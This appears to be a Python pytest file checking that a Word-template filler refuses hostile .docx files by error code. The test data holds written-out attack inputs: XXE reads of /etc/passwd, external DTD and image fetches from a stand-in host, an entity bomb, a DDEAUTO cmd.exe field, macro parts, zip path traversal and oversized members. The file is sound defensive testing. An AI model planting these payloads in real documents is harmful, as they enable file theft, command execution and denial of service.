"""Word files from anybody: what would fetch, run or explode is refused by name, and nothing ends in a traceback."""

from __future__ import annotations

import io
import random
import shutil
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from dossier.errors import TemplateBroken
from dossier.findings import Finding
from dossier.forms.template_check import check_template
from word_samples import Fill, FormMaker

Members = dict[str, bytes]
Change = Callable[[Members], None]

RELS = "word/_rels/document.xml.rels"
DOC = "word/document.xml"
_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rewritten(form: Path, change: Change) -> Path:
    """The form with its members changed, zipped again."""
    with zipfile.ZipFile(form) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    change(members)
    with zipfile.ZipFile(form, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return form


def refused(fill: Fill, form: Path) -> Finding:
    """The first finding; build and template check say the same."""
    with pytest.raises(TemplateBroken) as caught:
        fill(form)
    assert check_template(form) == list(caught.value.findings)
    return caught.value.findings[0]


def link(kind: str, target: str, mode: str = "External") -> Change:
    def change(members: Members) -> None:
        entry = f'<Relationship Id="rId99" Type="{_TYPE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        members[RELS] = members[RELS].replace(b"</Relationships>", entry.encode() + b"</Relationships>")

    return change


def body(xml: str) -> Change:
    def change(members: Members) -> None:
        members[DOC] = members[DOC].replace(b"<w:sectPr", xml.encode() + b"<w:sectPr", 1)

    return change


def field(*runs: str) -> Change:
    parts = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return body(f"<w:p>{begin}{parts}{end}</w:p>")


def prolog(text: str, part: str = DOC) -> Change:
    def change(members: Members) -> None:
        members[part] = members[part].replace(b"?>", b"?>" + text.encode(), 1)

    return change


BOMB = "<!DOCTYPE w [" + "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(12)) + "]>"


@pytest.mark.parametrize(
    ("change", "code"),
    [
        (prolog('<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), "T622"),
        (prolog('<!DOCTYPE w SYSTEM "http://192.0.2.1/x.dtd">'), "T622"),
        (prolog(BOMB), "T622"),
        (prolog("<!DOCTYPE Types>", "[Content_Types].xml"), "T622"),
        (prolog("<!DOCTYPE x>", RELS), "T622"),
        (link("image", "http://192.0.2.1/x.png"), "T623"),
        (link("image", "file:///etc/passwd"), "T623"),
        (link("image", "\\\\192.0.2.1\\share\\x.png"), "T623"),
        (link("oleObject", "file:///c:/x.xls"), "T623"),
        (link("subDocument", "x.docx"), "T623"),
        (link("frame", "http://192.0.2.1/"), "T623"),
        (link("aFChunk", "chunk.html", "Internal"), "T623"),
        (link("control", "activeX1.xml", "Internal"), "T623"),
        (body('<w:altChunk r:id="rId1"/>'), "T623"),
        (field("INCLUDETEXT &quot;/etc/passwd&quot;"), "T623"),
        (field(" INCLUDE", "PICTURE ", "&quot;http://192.0.2.1/x.png&quot;"), "T623"),
        (field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), "T623"),
        (body('<w:p><w:fldSimple w:instr="LINK Excel.Sheet x.xls"><w:r/></w:fldSimple></w:p>'), "T623"),
        (
            lambda m: (
                m.update({"word/vbaProject.bin": b"x"}) or link("vbaProject", "vbaProject.bin", "Internal")(m)
            ),
            "T623",
        ),
        (
            lambda m: m.update({"word/media/x.svg": b'<svg><image href="http://192.0.2.1/x.png"/></svg>'}),
            "T623",
        ),
        (lambda m: m.update({"../evil.txt": b"x"}), "T605"),
        (lambda m: m.update({"/abs.txt": b"x"}), "T605"),
        (lambda m: m.update({"WORD/document.xml": b"x"}), "T605"),
        (lambda m: m.pop(DOC), "T605"),
        (lambda m: m.pop("[Content_Types].xml"), "T605"),
        (lambda m: m.pop("_rels/.rels"), "T605"),
        (lambda m: m.update({DOC: b""}), "T605"),
        (lambda m: m.update({DOC: b"<w:document"}), "T605"),
        (lambda m: m.update({DOC: b"<html><body/></html>"}), "T605"),
        (
            lambda m: m.update({RELS: m[RELS].replace(b'Target="styles.xml"', b'Target="nowhere.xml"')}),
            "T605",
        ),
        (lambda m: m.update({DOC: b"<a>" * 100_000 + b"</a>" * 100_000}), "T605"),
        (lambda m: m.update({"word/header9.xml": b" " * 40_000_000}), "T607"),
        (lambda m: m.update({"word/media/x.png": b"\0" * 300_000_000}), "T607"),
        (lambda m: m.update({f"word/media/{n}.png": b"" for n in range(6000)}), "T605"),
    ],
)
def test_it_is_refused_by_name(make_form: FormMaker, fill: Fill, change: Change, code: str) -> None:
    form = rewritten(make_form("{{ 1 }}"), change)
    assert refused(fill, form).code == code


def test_a_clicked_link_and_the_name_of_the_old_template_are_fine(make_form: FormMaker, fill: Fill) -> None:
    form = rewritten(make_form("{{ 1 }}"), link("hyperlink", "https://example.org/"))
    assert check_template(form) == []
    assert fill(form).is_file()


def test_the_template_that_a_form_was_made_from_is_forgotten(make_form: FormMaker, fill: Fill) -> None:
    def change(members: Members) -> None:
        members["word/settings.xml"] = members["word/settings.xml"].replace(
            b"</w:settings>", f'<w:attachedTemplate xmlns:r="{_TYPE}" r:id="rId9"/></w:settings>'.encode()
        )
        members["word/_rels/settings.xml.rels"] = (
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId9" Type="%s/attachedTemplate" Target="http://192.0.2.1/t.dotm"'
            b' TargetMode="External"/></Relationships>'
        ) % _TYPE.encode()

    output = fill(rewritten(make_form("{{ 1 }}"), change))
    with zipfile.ZipFile(output) as archive:
        assert not [name for name in archive.namelist() if b"192.0.2.1" in archive.read(name)]
        assert b"attachedTemplate" not in archive.read("word/settings.xml")


def test_a_password_is_told(make_form: FormMaker, fill: Fill) -> None:
    form = make_form("{{ 1 }}")
    content = bytearray(form.read_bytes())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(signature)
        while at >= 0:
            (flags,) = struct.unpack_from("<H", content, at + offset)
            struct.pack_into("<H", content, at + offset, flags | 1)
            at = content.find(signature, at + 4)
    form.write_bytes(content)
    found = refused(fill, form)
    assert found.code == "T605"
    assert "密码" in found.message.zh


def test_a_part_that_is_there_twice_is_refused(make_form: FormMaker, fill: Fill) -> None:
    form = make_form("{{ 1 }}")
    with zipfile.ZipFile(form, "a") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr(DOC, b"<x/>")
    assert refused(fill, form).code == "T605"


def test_entries_that_overlap_are_refused(make_form: FormMaker, fill: Fill) -> None:
    form = make_form("{{ 1 }}")
    content = bytearray(form.read_bytes())
    first = content.find(b"PK\x01\x02")
    second = content.find(b"PK\x01\x02", first + 4)
    content[second + 42 : second + 46] = content[first + 42 : first + 46]  # both begin at the first entry
    form.write_bytes(content)
    assert refused(fill, form).code == "T605"


def test_broken_files_never_end_in_a_traceback(make_form: FormMaker, fill: Fill, tmp_path: Path) -> None:
    source = make_form("甲 {{ 1 }}", rows=[["{{ 2 }}", "乙"]])
    with zipfile.ZipFile(source) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    dice = random.Random(5)
    form = tmp_path / "templates" / "zh-CN" / "broken.docx"
    for _ in range(120):
        copy = dict(members)
        name = dice.choice([DOC, RELS, "[Content_Types].xml", "_rels/.rels", "word/styles.xml"])
        content = bytearray(copy[name])
        for _ in range(dice.choice([1, 3, 30])):
            at = dice.randrange(len(content))
            match dice.randrange(3):
                case 0:
                    content[at] = dice.randrange(256)
                case 1:
                    del content[at : at + dice.choice([1, 10, 100])]
                case _:
                    content[at:at] = dice.choice([b"<w:p>", b"{{", b"%}", b"</w:t>", b"&", b'"', b"<w:tbl/>"])
        copy[name] = bytes(content)
        with zipfile.ZipFile(form, "w") as archive:
            for member, data in copy.items():
                archive.writestr(member, data)
        _fill_or_refuse(form, fill)
    whole = source.read_bytes()
    for _ in range(60):
        raw = bytearray(whole[: dice.randrange(len(whole))] if dice.random() < 0.3 else whole)
        for _ in range(dice.choice([1, 5])):
            raw[dice.randrange(len(raw))] = dice.randrange(256)
        form.write_bytes(raw)
        _fill_or_refuse(form, fill)
    form.write_bytes(io.BytesIO(b"").getvalue())
    _fill_or_refuse(form, fill)
    shutil.copy(__file__, form)
    _fill_or_refuse(form, fill)


def _fill_or_refuse(form: Path, fill: Fill) -> None:
    found = check_template(form)
    assert all(f.code.startswith("T6") for f in found)
    try:
        fill(form)
    except TemplateBroken as error:
        assert all(f.code.startswith("T6") for f in error.findings)
